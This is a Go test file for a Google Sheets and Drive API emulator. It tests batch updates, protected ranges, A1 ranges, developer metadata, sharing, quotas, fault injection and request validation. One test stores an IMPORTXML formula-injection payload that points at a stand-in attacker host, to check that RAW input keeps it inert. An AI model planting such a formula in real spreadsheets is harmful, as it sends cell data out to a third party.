package sheetstest

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/googleapis/gax-go/v2/apierror"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"google.golang.org/api/drive/v3"
	"google.golang.org/api/googleapi"
	"google.golang.org/api/sheets/v4"
)

func TestBatchUpdateIsAtomic(t *testing.T) {
	s := newServer(t, Options{})
	book := newBook(t, s, "Input")
	api := sheetsFor(t, s, finance)
	_, err := api.Spreadsheets.BatchUpdate(book.SpreadsheetId, &sheets.BatchUpdateSpreadsheetRequest{Requests: []*sheets.Request{
		{AddSheet: &sheets.AddSheetRequest{Properties: &sheets.SheetProperties{Title: "Summary", SheetId: 7}}},
		{UpdateSheetProperties: &sheets.UpdateSheetPropertiesRequest{Properties: &sheets.SheetProperties{SheetId: 99, Title: "x"}, Fields: "title"}},
	}}).Do()
	ge := apiErr(t, err, 400)
	assert.Equal(t, "Invalid requests[1].updateSheetProperties: No grid with id: 99", ge.Message)
	got, err := api.Spreadsheets.Get(book.SpreadsheetId).Do()
	require.NoError(t, err)
	assert.Len(t, got.Sheets, 1, "the first request was not applied")

	// Replies mirror the requests.
	resp, err := api.Spreadsheets.BatchUpdate(book.SpreadsheetId, &sheets.BatchUpdateSpreadsheetRequest{Requests: []*sheets.Request{
		{UpdateSheetProperties: &sheets.UpdateSheetPropertiesRequest{Properties: &sheets.SheetProperties{SheetId: 0, Title: "Plan"}, Fields: "title"}},
		{AddSheet: &sheets.AddSheetRequest{Properties: &sheets.SheetProperties{Title: "Summary", SheetId: 7}}},
		{AddNamedRange: &sheets.AddNamedRangeRequest{NamedRange: &sheets.NamedRange{Name: "Amounts", Range: &sheets.GridRange{StartRowIndex: 1, EndRowIndex: 10, StartColumnIndex: 2, EndColumnIndex: 14}}}},
	}}).Do()
	require.NoError(t, err)
	require.Len(t, resp.Replies, 3)
	assert.Nil(t, resp.Replies[0].AddSheet)
	assert.Equal(t, int64(7), resp.Replies[1].AddSheet.Properties.SheetId)
	assert.Equal(t, int64(1), resp.Replies[1].AddSheet.Properties.Index)
	assert.NotEmpty(t, resp.Replies[2].AddNamedRange.NamedRange.NamedRangeId)
}

func TestDuplicateIDs(t *testing.T) {
	s := newServer(t, Options{})
	book := newBook(t, s, "Input")
	api := sheetsFor(t, s, finance)
	first := []*sheets.Request{
		{AddSheet: &sheets.AddSheetRequest{Properties: &sheets.SheetProperties{Title: "Summary", SheetId: 100}}},
		{AddNamedRange: &sheets.AddNamedRangeRequest{NamedRange: &sheets.NamedRange{NamedRangeId: "amounts", Name: "Amounts", Range: &sheets.GridRange{EndRowIndex: 3}}}},
		{AddProtectedRange: &sheets.AddProtectedRangeRequest{ProtectedRange: &sheets.ProtectedRange{ProtectedRangeId: 555, Range: &sheets.GridRange{SheetId: 100}}}},
		{CreateDeveloperMetadata: &sheets.CreateDeveloperMetadataRequest{DeveloperMetadata: &sheets.DeveloperMetadata{
			MetadataId: 77, MetadataKey: "aop.department", MetadataValue: "SALES", Visibility: "DOCUMENT",
			Location: &sheets.DeveloperMetadataLocation{Spreadsheet: true}}}},
	}
	_, err := api.Spreadsheets.BatchUpdate(book.SpreadsheetId, &sheets.BatchUpdateSpreadsheetRequest{Requests: first}).Do()
	require.NoError(t, err)
	for i, r := range first {
		_, err := api.Spreadsheets.BatchUpdate(book.SpreadsheetId, &sheets.BatchUpdateSpreadsheetRequest{Requests: []*sheets.Request{r}}).Do()
		ge := apiErr(t, err, 400)
		assert.Contains(t, ge.Message, "already exists", "request %d", i)
		assert.True(t, strings.HasPrefix(ge.Message, "Invalid requests[0]."), ge.Message)
	}
}

func TestProtectedRangesPerIdentity(t *testing.T) {
	s := newServer(t, Options{})
	book := newBook(t, s, "Plan", "Summary")
	id := book.SpreadsheetId
	api := sheetsFor(t, s, finance)
	for _, who := range []string{head, other} {
		_, err := driveFor(t, s, finance).Permissions.Create(id, &drive.Permission{Type: "user", Role: "writer", EmailAddress: who}).Do()
		require.NoError(t, err)
	}
	_, err := api.Spreadsheets.BatchUpdate(id, &sheets.BatchUpdateSpreadsheetRequest{Requests: []*sheets.Request{
		// The summary tab: only finance's service account may edit it.
		{AddProtectedRange: &sheets.AddProtectedRangeRequest{ProtectedRange: &sheets.ProtectedRange{
			Range: &sheets.GridRange{SheetId: 100}, Description: "written by aop", Editors: &sheets.Editors{Users: []string{svc}}}}},
		// The plan: everything locked but the inputs C2:E9, which the head
		// may edit, and a header row the head may edit too.
		{AddProtectedRange: &sheets.AddProtectedRangeRequest{ProtectedRange: &sheets.ProtectedRange{
			Range: &sheets.GridRange{SheetId: 0}, Editors: &sheets.Editors{Users: []string{svc}},
			UnprotectedRanges: []*sheets.GridRange{{StartRowIndex: 1, EndRowIndex: 9, StartColumnIndex: 2, EndColumnIndex: 5}}}}},
	}}).Do()
	require.NoError(t, err)
	write := func(who, rng string) error {
		_, err := sheetsFor(t, s, who).Spreadsheets.Values.Update(id, rng, &sheets.ValueRange{Values: [][]any{{1}}}).ValueInputOption("RAW").Do()
		return err
	}
	assert.NoError(t, write(finance, "Summary!A1"), "the owner bypasses protection")
	assert.NoError(t, write(head, "Plan!C2"), "an unprotected input")
	ge := apiErr(t, write(head, "Plan!A1"), 400)
	assert.Equal(t, msgProtected, ge.Message)
	apiErr(t, write(other, "Summary!B2"), 400)
	require.Error(t, s.EditAs(head, id, "Summary!A1", [][]any{{"x"}}))
	assert.True(t, IsProtectedError(s.EditAs(head, id, "Plan!B2", [][]any{{"x"}})))
	require.NoError(t, s.EditAs(head, id, "Plan!C2:D2", [][]any{{"1,200", "12%"}}))
	vals, err := s.ReadAs(head, id, "Plan!C2:D2")
	require.NoError(t, err)
	assert.Equal(t, [][]any{{"1,200", "12%"}}, vals)

	// The protections as each user sees them.
	got, err := sheetsFor(t, s, head).Spreadsheets.Get(id).Fields("sheets.protectedRanges").Do()
	require.NoError(t, err)
	assert.False(t, got.Sheets[1].ProtectedRanges[0].RequestingUserCanEdit)

	// In a shared drive nobody bypasses protection, not even an organizer.
	seed, err := s.Seed(SeedOptions{ServiceAccount: svc, Members: map[string]string{finance: "organizer"}})
	require.NoError(t, err)
	cp, err := driveFor(t, s, svc).Files.Copy(seed.TemplateID, &drive.File{Name: "Sales", Parents: []string{seed.DriveID}}).SupportsAllDrives(true).Do()
	require.NoError(t, err)
	_, err = sheetsFor(t, s, svc).Spreadsheets.BatchUpdate(cp.Id, &sheets.BatchUpdateSpreadsheetRequest{Requests: []*sheets.Request{
		{AddProtectedRange: &sheets.AddProtectedRangeRequest{ProtectedRange: &sheets.ProtectedRange{Range: &sheets.GridRange{}, Editors: &sheets.Editors{Users: []string{svc}}}}},
	}}).Do()
	require.NoError(t, err)
	_, err = sheetsFor(t, s, finance).Spreadsheets.Values.Update(cp.Id, "Sheet1!A1", &sheets.ValueRange{Values: [][]any{{1}}}).ValueInputOption("RAW").Do()
	apiErr(t, err, 400)
	_, err = sheetsFor(t, s, svc).Spreadsheets.Values.Update(cp.Id, "Sheet1!A1", &sheets.ValueRange{Values: [][]any{{1}}}).ValueInputOption("RAW").Do()
	require.NoError(t, err)

	// Warning-only protection cannot have editors.
	_, err = api.Spreadsheets.BatchUpdate(id, &sheets.BatchUpdateSpreadsheetRequest{Requests: []*sheets.Request{
		{AddProtectedRange: &sheets.AddProtectedRangeRequest{ProtectedRange: &sheets.ProtectedRange{
			Range: &sheets.GridRange{EndRowIndex: 1}, WarningOnly: true, Editors: &sheets.Editors{Users: []string{head}}}}},
	}}).Do()
	ge = apiErr(t, err, 400)
	assert.Equal(t, "ProtectedRange is warningOnly. Editors cannot be set on it.", ge.Message)
}

func TestRawVersusUserEntered(t *testing.T) {
	s := newServer(t, Options{})
	book := newBook(t, s, "Summary")
	api := sheetsFor(t, s, finance)
	id := book.SpreadsheetId
	inject := `=IMPORTXML("https://attacker.example/?"&A1, "//a")`
	_, err := api.Spreadsheets.Values.Update(id, "Summary!A1:C1", &sheets.ValueRange{Values: [][]any{{inject, "=1+1", "12%"}}}).ValueInputOption("RAW").Do()
	require.NoError(t, err)
	_, err = api.Spreadsheets.Values.Update(id, "Summary!A2:E2", &sheets.ValueRange{Values: [][]any{{"=1+1", "12%", "1,234.5", "2026-01-15", "true"}}}).ValueInputOption("USER_ENTERED").Do()
	require.NoError(t, err)

	get := func(render string) [][]any {
		r, err := api.Spreadsheets.Values.Get(id, "Summary!A1:E2").ValueRenderOption(render).Do()
		require.NoError(t, err)
		return r.Values
	}
	assert.Equal(t, [][]any{{inject, "=1+1", "12%"}, {"=1+1", 0.12, 1234.5, 46037.0, true}}, get("FORMULA"))
	assert.Equal(t, [][]any{{inject, "=1+1", "12%"}, {2.0, 0.12, 1234.5, 46037.0, true}}, get("UNFORMATTED_VALUE"))
	assert.Equal(t, [][]any{{inject, "=1+1", "12%"}, {"2", "12%", "1,234.5", "2026-01-15", "TRUE"}}, get("FORMATTED_VALUE"))
	r, err := api.Spreadsheets.Values.Get(id, "Summary!D2").ValueRenderOption("UNFORMATTED_VALUE").DateTimeRenderOption("FORMATTED_STRING").Do()
	require.NoError(t, err)
	assert.Equal(t, [][]any{{"2026-01-15"}}, r.Values)

	// The stored values, as spreadsheets.get shows them.
	ss, err := api.Spreadsheets.Get(id).Ranges("Summary!A1:A2").Fields("sheets.data.rowData.values(userEnteredValue,effectiveValue)").Do()
	require.NoError(t, err)
	rows := ss.Sheets[0].Data[0].RowData
	require.NotNil(t, rows[0].Values[0].UserEnteredValue.StringValue)
	assert.Equal(t, inject, *rows[0].Values[0].UserEnteredValue.StringValue)
	require.NotNil(t, rows[1].Values[0].UserEnteredValue.FormulaValue)
	assert.Equal(t, 2.0, *rows[1].Values[0].EffectiveValue.NumberValue)

	_, err = api.Spreadsheets.Values.Update(id, "Summary!A1", &sheets.ValueRange{Values: [][]any{{1}}}).Do()
	apiErr(t, err, 400)
}

func TestA1Ranges(t *testing.T) {
	s := newServer(t, Options{})
	book := newBook(t, s, "O'Brien Dept", "Plan 2026", "Sheet3")
	api := sheetsFor(t, s, finance)
	id := book.SpreadsheetId
	_, err := api.Spreadsheets.Values.BatchUpdate(id, &sheets.BatchUpdateValuesRequest{ValueInputOption: "RAW", Data: []*sheets.ValueRange{
		{Range: "'O''Brien Dept'!A1:C3", Values: [][]any{{"a", "b", "c"}, {"d"}, {nil, nil, "i"}}},
		{Range: "'Plan 2026'!B2", Values: [][]any{{1, 2}}},
	}}).Do()
	require.NoError(t, err)
	cases := []struct {
		rng, echo string
		values    [][]any
	}{
		{"'O''Brien Dept'!A1:C3", "'O''Brien Dept'!A1:C3", [][]any{{"a", "b", "c"}, {"d"}, {"", "", "i"}}},
		{"'O''Brien Dept'!A:A", "'O''Brien Dept'!A1:A1000", [][]any{{"a"}, {"d"}}},
		{"'O''Brien Dept'!2:3", "'O''Brien Dept'!A2:Z3", [][]any{{"d"}, {"", "", "i"}}},
		{"'O''Brien Dept'!B1:B", "'O''Brien Dept'!B1:B1000", [][]any{{"b"}}},
		{"A1:B1", "'O''Brien Dept'!A1:B1", [][]any{{"a", "b"}}},
		{"'Plan 2026'", "'Plan 2026'!A1:Z1000", [][]any{{}, {"", "1", "2"}}},
		{"Sheet3!A1:Z9", "Sheet3!A1:Z9", nil},
		{"'Plan 2026'!A1:B5000", "'Plan 2026'!A1:B1000", [][]any{{}, {"", "1"}}},
		{"'Plan 2026'!R2C2:R2C3", "'Plan 2026'!B2:C2", [][]any{{"1", "2"}}},
	}
	for _, c := range cases {
		t.Run(c.rng, func(t *testing.T) {
			r, err := api.Spreadsheets.Values.Get(id, c.rng).Do()
			require.NoError(t, err)
			assert.Equal(t, c.echo, r.Range)
			assert.Equal(t, c.values, r.Values)
		})
	}
	cols, err := api.Spreadsheets.Values.Get(id, "'O''Brien Dept'!A1:C3").MajorDimension("COLUMNS").Do()
	require.NoError(t, err)
	assert.Equal(t, [][]any{{"a", "d"}, {"b"}, {"c", "", "i"}}, cols.Values)
	for _, bad := range []string{"Nope!A1", "'Unclosed!A1", "A1:", "!A1"} {
		_, err := api.Spreadsheets.Values.Get(id, bad).Do()
		ge := apiErr(t, err, 400)
		assert.Equal(t, "Unable to parse range: "+bad, ge.Message)
	}
	_, err = api.Spreadsheets.Values.Update(id, "Sheet3!A1001", &sheets.ValueRange{Values: [][]any{{1}}}).ValueInputOption("RAW").Do()
	ge := apiErr(t, err, 400)
	assert.Equal(t, "Range ('Sheet3'!A1001) exceeds grid limits. Max rows: 1000, max columns: 26", ge.Message)
}

func TestDeveloperMetadataSearch(t *testing.T) {
	s := newServer(t, Options{})
	book := newBook(t, s, "Plan")
	api := sheetsFor(t, s, finance)
	id := book.SpreadsheetId
	meta := func(key, value string, loc *sheets.DeveloperMetadataLocation) *sheets.Request {
		return &sheets.Request{CreateDeveloperMetadata: &sheets.CreateDeveloperMetadataRequest{DeveloperMetadata: &sheets.DeveloperMetadata{
			MetadataKey: key, MetadataValue: value, Visibility: "DOCUMENT", Location: loc}}}
	}
	row := func(i int64) *sheets.DeveloperMetadataLocation {
		return &sheets.DeveloperMetadataLocation{DimensionRange: &sheets.DimensionRange{Dimension: "ROWS", StartIndex: i, EndIndex: i + 1, ForceSendFields: []string{"SheetId"}}}
	}
	resp, err := api.Spreadsheets.BatchUpdate(id, &sheets.BatchUpdateSpreadsheetRequest{Requests: []*sheets.Request{
		meta("aop.department", "SALES", &sheets.DeveloperMetadataLocation{Spreadsheet: true}),
		meta("aop.line", "travel", row(5)),
		meta("aop.line", "laptops", row(6)),
	}}).Do()
	require.NoError(t, err)
	assert.Equal(t, "ROW", resp.Replies[1].CreateDeveloperMetadata.DeveloperMetadata.Location.LocationType)
	_, err = api.Spreadsheets.Values.Update(id, "Plan!A6:C7", &sheets.ValueRange{Values: [][]any{{"Travel", 1200}, {"Laptops", 45000}}}).ValueInputOption("RAW").Do()
	require.NoError(t, err)

	found, err := api.Spreadsheets.DeveloperMetadata.Search(id, &sheets.SearchDeveloperMetadataRequest{DataFilters: []*sheets.DataFilter{
		{DeveloperMetadataLookup: &sheets.DeveloperMetadataLookup{MetadataKey: "aop.line"}},
	}}).Do()
	require.NoError(t, err)
	require.Len(t, found.MatchedDeveloperMetadata, 2)
	found, err = api.Spreadsheets.DeveloperMetadata.Search(id, &sheets.SearchDeveloperMetadataRequest{DataFilters: []*sheets.DataFilter{
		{DeveloperMetadataLookup: &sheets.DeveloperMetadataLookup{LocationType: "SPREADSHEET"}},
		{DeveloperMetadataLookup: &sheets.DeveloperMetadataLookup{MetadataValue: "laptops"}},
		{A1Range: "Plan!A6"},
	}}).Do()
	require.NoError(t, err)
	require.Len(t, found.MatchedDeveloperMetadata, 3)
	md := found.MatchedDeveloperMetadata[0].DeveloperMetadata
	got, err := api.Spreadsheets.DeveloperMetadata.Get(id, md.MetadataId).Do()
	require.NoError(t, err)
	assert.Equal(t, md.MetadataKey, got.MetadataKey)

	exact, err := api.Spreadsheets.DeveloperMetadata.Search(id, &sheets.SearchDeveloperMetadataRequest{DataFilters: []*sheets.DataFilter{
		{DeveloperMetadataLookup: &sheets.DeveloperMetadataLookup{LocationMatchingStrategy: "EXACT_LOCATION", MetadataLocation: row(6)}},
	}}).Do()
	require.NoError(t, err)
	require.Len(t, exact.MatchedDeveloperMetadata, 1)
	assert.Equal(t, "laptops", exact.MatchedDeveloperMetadata[0].DeveloperMetadata.MetadataValue)
	inter, err := api.Spreadsheets.DeveloperMetadata.Search(id, &sheets.SearchDeveloperMetadataRequest{DataFilters: []*sheets.DataFilter{
		{DeveloperMetadataLookup: &sheets.DeveloperMetadataLookup{MetadataLocation: &sheets.DeveloperMetadataLocation{SheetId: 0, ForceSendFields: []string{"SheetId"}}}},
	}}).Do()
	require.NoError(t, err)
	assert.Len(t, inter.MatchedDeveloperMetadata, 3, "a sheet intersects its rows and the spreadsheet")

	vals, err := api.Spreadsheets.Values.BatchGetByDataFilter(id, &sheets.BatchGetValuesByDataFilterRequest{
		ValueRenderOption: "UNFORMATTED_VALUE",
		DataFilters:       []*sheets.DataFilter{{DeveloperMetadataLookup: &sheets.DeveloperMetadataLookup{MetadataKey: "aop.line", MetadataValue: "travel"}}},
	}).Do()
	require.NoError(t, err)
	require.Len(t, vals.ValueRanges, 1)
	assert.Equal(t, "Plan!A6:Z6", vals.ValueRanges[0].ValueRange.Range)
	assert.Equal(t, [][]any{{"Travel", 1200.0}}, vals.ValueRanges[0].ValueRange.Values)

	// A multi-row location is refused.
	bad := row(1)
	bad.DimensionRange.EndIndex = 4
	_, err = api.Spreadsheets.BatchUpdate(id, &sheets.BatchUpdateSpreadsheetRequest{Requests: []*sheets.Request{meta("k", "v", bad)}}).Do()
	apiErr(t, err, 400)
}

func TestDriveSharingRoles(t *testing.T) {
	s := newServer(t, Options{})
	book := newBook(t, s, "Plan")
	id := book.SpreadsheetId
	d := driveFor(t, s, finance)
	_, err := d.Permissions.Create(id, &drive.Permission{Type: "user", Role: "reader", EmailAddress: head}).SendNotificationEmail(false).Do()
	require.NoError(t, err)
	_, err = sheetsFor(t, s, head).Spreadsheets.Values.Get(id, "Plan!A1").Do()
	require.NoError(t, err, "a reader reads")
	_, err = sheetsFor(t, s, head).Spreadsheets.Values.Update(id, "Plan!A1", &sheets.ValueRange{Values: [][]any{{1}}}).ValueInputOption("RAW").Do()
	ge := apiErr(t, err, 403)
	assert.Equal(t, "The caller does not have permission", ge.Message)
	_, err = driveFor(t, s, head).Permissions.Create(id, &drive.Permission{Type: "user", Role: "writer", EmailAddress: other}).Do()
	apiErr(t, err, 403)
	_, err = driveFor(t, s, other).Files.Get(id).Do()
	apiErr(t, err, 404)

	perms, err := d.Permissions.List(id).Fields("permissions(id,type,role,emailAddress)").Do()
	require.NoError(t, err)
	require.Len(t, perms.Permissions, 2)
	assert.Equal(t, "owner", perms.Permissions[0].Role)
	assert.Equal(t, head, perms.Permissions[1].EmailAddress)

	f, err := d.Files.Get(id).Fields("id,name,mimeType,parents,webViewLink").Do()
	require.NoError(t, err)
	assert.Equal(t, "application/vnd.google-apps.spreadsheet", f.MimeType)
	assert.Equal(t, "FY2026 Budget", f.Name)
	assert.Len(t, f.Parents, 1)
	assert.Contains(t, f.WebViewLink, id)

	seed, err := s.Seed(SeedOptions{ServiceAccount: svc})
	require.NoError(t, err)
	sd := driveFor(t, s, svc)
	for _, name := range []string{"FY26 Sales", "FY26 O'Neil"} {
		_, err := sd.Files.Copy(seed.TemplateID, &drive.File{Name: name, Parents: []string{seed.DriveID}}).SupportsAllDrives(true).Do()
		require.NoError(t, err)
	}
	list, err := sd.Files.List().Q("'" + seed.DriveID + "' in parents and trashed = false and name = 'FY26 O\\'Neil'").
		SupportsAllDrives(true).IncludeItemsFromAllDrives(true).Fields("files(id,name)").Do()
	require.NoError(t, err)
	require.Len(t, list.Files, 1)
	assert.Equal(t, "FY26 O'Neil", list.Files[0].Name)
	all, err := sd.Files.List().Q("'" + seed.DriveID + "' in parents").SupportsAllDrives(true).IncludeItemsFromAllDrives(true).Do()
	require.NoError(t, err)
	assert.Len(t, all.Files, 3)
	_, err = sd.Files.List().Q("name ~ 'x'").Do()
	apiErr(t, err, 400)
	require.NoError(t, sd.Files.Delete(list.Files[0].Id).SupportsAllDrives(true).Do())
	_, err = sd.Files.Get(list.Files[0].Id).SupportsAllDrives(true).Do()
	apiErr(t, err, 404)
}

func TestQuota429(t *testing.T) {
	s := newServer(t, Options{Quotas: &Quotas{ReadPerUser: 3, WritePerUser: 2, ReadPerProject: 100, WritePerProject: 100}})
	book := newBook(t, s, "Plan")
	api := sheetsFor(t, s, finance)
	for range 3 {
		_, err := api.Spreadsheets.Values.Get(book.SpreadsheetId, "Plan!A1").Do()
		require.NoError(t, err)
	}
	_, err := api.Spreadsheets.Values.Get(book.SpreadsheetId, "Plan!A1").Do()
	ge := apiErr(t, err, 429)
	assert.True(t, strings.HasPrefix(ge.Message, "Quota exceeded for quota metric 'Read requests' and limit 'Read requests per minute per user' of service 'sheets.googleapis.com'"), ge.Message)
	var ae *apierror.APIError
	require.True(t, errors.As(err, &ae))
	assert.Equal(t, "RATE_LIMIT_EXCEEDED", ae.Reason())
	assert.Equal(t, "ReadRequestsPerMinutePerUser", ae.Metadata()["quota_limit"])
	assert.Equal(t, "ResourceExhausted", ae.GRPCStatus().Code().String())
	// Writes have their own bucket (create used one), Drive none.
	_, err = api.Spreadsheets.Values.Update(book.SpreadsheetId, "Plan!A1", &sheets.ValueRange{Values: [][]any{{1}}}).ValueInputOption("RAW").Do()
	require.NoError(t, err)
	_, err = api.Spreadsheets.Values.Update(book.SpreadsheetId, "Plan!A1", &sheets.ValueRange{Values: [][]any{{1}}}).ValueInputOption("RAW").Do()
	ge = apiErr(t, err, 429)
	assert.Contains(t, ge.Message, "'Write requests per minute per user'")
	_, err = driveFor(t, s, finance).Files.Get(book.SpreadsheetId).Do()
	require.NoError(t, err)
	// Another user has their own bucket.
	_, err = sheetsFor(t, s, head).Spreadsheets.Values.Get(book.SpreadsheetId, "Plan!A1").Do()
	apiErr(t, err, 403)
	st := s.Stats()
	assert.Equal(t, map[string]int{"ReadRequestsPerMinutePerUser": 1, "WriteRequestsPerMinutePerUser": 1}, st.QuotaExceeded)
	assert.Empty(t, st.Faults)
}

// TestQuotaAcceptsPacedClient runs in virtual time: a client that spaces
// its requests quota/60 per second apart is never refused, minute after
// minute, and one request more within a minute is.
func TestQuotaAcceptsPacedClient(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s := newServer(t, Options{Quotas: &Quotas{ReadPerUser: 60, WritePerUser: 60, ReadPerProject: 300, WritePerProject: 300}})
		book := newBook(t, s, "Plan")
		api := sheetsFor(t, s, finance)
		for i := range 180 {
			_, err := api.Spreadsheets.Values.Get(book.SpreadsheetId, "Plan!A1").Do()
			require.NoError(t, err, "request %d", i)
			time.Sleep(time.Second)
		}
		for range 60 {
			_, err := api.Spreadsheets.Values.Get(book.SpreadsheetId, "Plan!A1").Do()
			if err != nil {
				apiErr(t, err, 429)
				return
			}
		}
		t.Fatal("a burst of 60 after a paced minute was not refused")
	})
}

func TestFaultsAndStats(t *testing.T) {
	s := newServer(t, Options{Quotas: &Quotas{}})
	book := newBook(t, s, "Plan")
	require.NoError(t, s.SetFaults(Faults{Rate: 0.5, Seed: 3, Kinds: []FaultKind{Fault429, Fault500, Fault503}}))
	s.ResetStats()
	api := sheetsFor(t, s, finance)
	codes := map[int]int{}
	for i := range 200 {
		_, err := api.Spreadsheets.Values.Update(book.SpreadsheetId, "Plan!A1", &sheets.ValueRange{Values: [][]any{{i}}}).ValueInputOption("RAW").Do()
		if err != nil {
			var ge *googleapi.Error
			require.True(t, errors.As(err, &ge))
			codes[ge.Code]++
			continue
		}
		codes[200]++
	}
	st := s.Stats()
	injected := st.Faults["429"] + st.Faults["500"] + st.Faults["503"]
	assert.Equal(t, 200-codes[200], injected)
	assert.Equal(t, codes[429], st.Faults["429"])
	assert.Empty(t, st.QuotaExceeded, "injected 429s are not quota 429s")
	assert.Greater(t, st.FaultsAfterApply, 0)
	assert.Greater(t, codes[200], 50)
	assert.Equal(t, 200, st.Requests["sheets.spreadsheets.values.update"], "every request the client sent counts")
	for code, n := range codes {
		assert.Equal(t, n, st.Responses[fmt.Sprint(code)], "status %d", code)
	}

	// The same counters over HTTP.
	resp, err := s.Client().Get("http://emulator/_emulator/stats")
	require.NoError(t, err)
	defer resp.Body.Close()
	var overHTTP Stats
	require.NoError(t, json.NewDecoder(resp.Body).Decode(&overHTTP))
	assert.Equal(t, st, overHTTP)
	assert.Equal(t, st.Requests["sheets.spreadsheets.values.update"], st.BySpreadsheet[book.SpreadsheetId]["sheets.spreadsheets.values.update"])
}

// TestTimeoutFault: the client sees a transport timeout when it sets a
// per-request timeout; the emulator waits in virtual time.
func TestTimeoutFault(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		s := newServer(t, Options{Quotas: &Quotas{}, Faults: Faults{Rate: 1, Kinds: []FaultKind{FaultTimeout}}})
		client := s.ClientFor(finance)
		client.Timeout = 30 * time.Second
		req, _ := http.NewRequest("GET", "http://emulator/v4/spreadsheets/x", nil)
		start := time.Now()
		_, err := client.Do(req)
		require.Error(t, err)
		var ne interface{ Timeout() bool }
		require.True(t, errors.As(err, &ne) && ne.Timeout(), "%v", err)
		assert.Equal(t, 30*time.Second, time.Since(start))

		// Without a deadline, Google's 180 s limit answers 504.
		ctx := context.Background()
		req, _ = http.NewRequestWithContext(ctx, "GET", "http://emulator/v4/spreadsheets/x", nil)
		resp, err := s.ClientFor(finance).Do(req)
		require.NoError(t, err)
		resp.Body.Close()
		assert.Equal(t, 504, resp.StatusCode)
	})
}

func TestPersistenceRoundTrip(t *testing.T) {
	path := filepath.Join(t.TempDir(), "state.json")
	s := newServer(t, Options{File: path})
	seed, err := s.Seed(SeedOptions{ServiceAccount: svc})
	require.NoError(t, err)
	cp, err := driveFor(t, s, svc).Files.Copy(seed.TemplateID, &drive.File{Name: "Sales", Parents: []string{seed.DriveID}}).SupportsAllDrives(true).Do()
	require.NoError(t, err)
	api := sheetsFor(t, s, svc)
	_, err = api.Spreadsheets.BatchUpdate(cp.Id, &sheets.BatchUpdateSpreadsheetRequest{Requests: []*sheets.Request{
		{AddNamedRange: &sheets.AddNamedRangeRequest{NamedRange: &sheets.NamedRange{Name: "Amounts", Range: &sheets.GridRange{EndRowIndex: 2}}}},
		{CreateDeveloperMetadata: &sheets.CreateDeveloperMetadataRequest{DeveloperMetadata: &sheets.DeveloperMetadata{
			MetadataKey: "k", Visibility: "PROJECT", Location: &sheets.DeveloperMetadataLocation{Spreadsheet: true}}}},
	}}).Do()
	require.NoError(t, err)
	_, err = api.Spreadsheets.Values.Update(cp.Id, "Sheet1!A1:B1", &sheets.ValueRange{Values: [][]any{{"x", "=1+2"}}}).ValueInputOption("USER_ENTERED").Do()
	require.NoError(t, err)
	token := s.TokenFor(head)
	_, err = os.Stat(path)
	require.NoError(t, err)

	s2 := newServer(t, Options{File: path})
	assert.Equal(t, token, s2.TokenFor(head), "tokens survive a restart")
	r, err := sheetsFor(t, s2, svc).Spreadsheets.Values.Get(cp.Id, "Sheet1!A1:B1").Do()
	require.NoError(t, err)
	assert.Equal(t, [][]any{{"x", "3"}}, r.Values)
	got, err := sheetsFor(t, s2, svc).Spreadsheets.Get(cp.Id).Fields("namedRanges,developerMetadata").Do()
	require.NoError(t, err)
	assert.Len(t, got.NamedRanges, 1)
	assert.Len(t, got.DeveloperMetadata, 1)
	// The key issued before the restart still authenticates.
	again, err := s2.Seed(SeedOptions{ServiceAccount: svc})
	require.NoError(t, err)
	assert.Equal(t, seed.DriveID, again.DriveID)
	assert.Equal(t, seed.TemplateID, again.TemplateID)
}

func TestRequestValidation(t *testing.T) {
	s := newServer(t, Options{MaxBodyBytes: 1 << 10})
	book := newBook(t, s, "Plan")
	client := s.ClientFor(finance)
	post := func(path, body string) (int, map[string]any) {
		resp, err := client.Post("http://emulator"+path, "application/json", strings.NewReader(body))
		require.NoError(t, err)
		defer resp.Body.Close()
		b, _ := io.ReadAll(resp.Body)
		var out map[string]any
		require.NoError(t, json.Unmarshal(b, &out), string(b))
		return resp.StatusCode, out
	}
	msg := func(m map[string]any) string { return m["error"].(map[string]any)["message"].(string) }
	bu := "/v4/spreadsheets/" + book.SpreadsheetId + ":batchUpdate"
	code, body := post(bu, `{"requests":[{"addSheet":{"xyz":1}}]}`)
	assert.Equal(t, 400, code)
	assert.Equal(t, `Invalid JSON payload received. Unknown name "xyz" at 'requests[0].add_sheet': Cannot find field.`, msg(body))
	code, body = post(bu, `{"requests":[{"addSheet":{"properties":{"sheetID":1}}}]}`)
	assert.Equal(t, 400, code, "names are case-sensitive")
	assert.Contains(t, msg(body), `Unknown name "sheetID" at 'requests[0].add_sheet.properties'`)
	code, body = post(bu, `{"requests":[{"updateDimensionProperties":{"range":{"dimension":"DIAGONAL"},"fields":"pixelSize"}}]}`)
	assert.Equal(t, 400, code)
	assert.Equal(t, `Invalid value at 'requests[0].update_dimension_properties.range.dimension' (type.googleapis.com/google.apps.sheets.v4.Dimension), "DIAGONAL"`, msg(body))
	code, body = post(bu, `{"requests":[{"add_sheet":{"properties":{"title":"snake"}}}]}`)
	assert.Equal(t, 200, code, "proto field names are accepted: %v", body)
	code, body = post(bu, `{"requests":[{"addSheet":{}, "deleteSheet":{}}]}`)
	assert.Equal(t, 400, code)
	assert.Contains(t, msg(body), "Oneof field 'kind' is already set")
	code, body = post(bu, `{"requests":[{"addSheet":{"properties":{"sheetId":"x"}}}]}`)
	assert.Equal(t, 400, code)
	assert.Equal(t, `Invalid value at 'requests[0].add_sheet.properties.sheet_id' (TYPE_INT32), "x"`, msg(body))
	code, body = post(bu, `{"requests":[`+strings.Repeat(`{"addSheet":{}},`, 100)+`{}]}`)
	assert.Equal(t, 400, code)
	assert.Equal(t, "Request payload size exceeds the limit: 1024 bytes.", msg(body))
	code, body = post(bu, `{"requests":[{"updateCells":{"start":{},"fields":"userEnteredValue,bogus"}}]}`)
	assert.Equal(t, 400, code)
	assert.Equal(t, "Invalid requests[0].updateCells: Invalid field: bogus", msg(body))
	code, _ = post(bu, `{"requests":[{"updateCells":{"start":{},"fields":"userEnteredFormat(numberFormat,textFormat.bold)","rows":[{"values":[{"userEnteredFormat":{"textFormat":{"bold":true}}}]}]}}]}`)
	assert.Equal(t, 200, code)
	code, body = post(bu, `not json`)
	assert.Equal(t, 400, code)
	assert.Contains(t, msg(body), "Invalid JSON payload received.")

